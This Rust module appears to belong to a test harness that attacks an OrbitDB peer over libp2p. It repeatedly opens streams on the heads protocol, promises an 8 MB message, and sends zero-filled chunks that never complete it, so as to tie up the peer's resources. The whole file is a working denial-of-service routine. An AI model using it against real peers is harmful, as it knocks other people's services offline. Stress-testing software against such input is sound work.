//! One peer opens streams of heads and sends on each a head of megabytes that does not end.

use std::time::Duration;

use libp2p::futures::AsyncWriteExt;
use tokio::time::timeout;

use crate::Victim;
use crate::raw::{Failure, Raw};

const STREAMS: usize = 32;
/// A string of 8 MB is promised, and all but the last of it comes.
const PROMISE: [u8; 5] = [0x5a, 0x00, 0x7f, 0x00, 0x00];
const PIECE_BYTES: usize = 64 * 1024;
const PIECES: usize = 100;
const WRITE_TIMEOUT: Duration = Duration::from_secs(2);
const PAUSE: Duration = Duration::from_secs(1);

pub(crate) async fn play(victim: &Victim) -> Result<String, Failure> {
    let mut peer = Raw::connect(&victim.address, Vec::new()).await?;
    let protocol = format!("/orbitdb/heads{}", victim.store);
    let (mut kept, mut bytes) = (Vec::new(), 0);
    while !victim.is_over() {
        for _ in 0..STREAMS {
            let Ok(mut stream) = peer.open(victim.peer, &protocol).await else { continue };
            let _ = stream.write_all(&PROMISE).await;
            for _ in 0..PIECES {
                let written = timeout(WRITE_TIMEOUT, stream.write_all(&[0; PIECE_BYTES])).await;
                if !matches!(written, Ok(Ok(()))) || victim.is_over() {
                    break;
                }
                bytes += PIECE_BYTES;
            }
            kept.push(stream);
        }
        kept.drain(..kept.len().saturating_sub(STREAMS));
        if !peer.is_connected()
            && let Ok(again) = Raw::connect(&victim.address, Vec::new()).await
        {
            peer = again;
        }
        victim.rest(PAUSE).await;
    }
    Ok(format!("{} MB of heads that do not end", bytes / 1_000_000))
}
